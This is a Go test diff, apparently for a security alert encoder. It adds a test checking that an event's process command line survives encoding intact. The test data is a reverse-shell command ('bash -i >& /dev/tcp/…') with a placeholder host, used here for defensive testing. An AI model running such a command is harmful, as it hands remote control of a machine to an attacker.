@@ -120,6 +120,14 @@ func TestLevelsSortAndNameTopics(t *testing.T) {
 	}
 }
 
+func TestACommandLineStaysAsItIs(t *testing.T) {
+	a := sample()
+	a.Event = json.RawMessage(`{"process":{"command_line":"bash -i >& /dev/tcp/<x>"}}`)
+	if b, err := a.Encode(1 << 20); err != nil || !bytes.Contains(b, a.Event) {
+		t.Errorf("%s: %v", b, err)
+	}
+}
+
 // TestAnAlertThatIsTooLargeSaysWhatWasLeftOut goes through limits in which less and less
 // has room.
 func TestAnAlertThatIsTooLargeSaysWhatWasLeftOut(t *testing.T) {
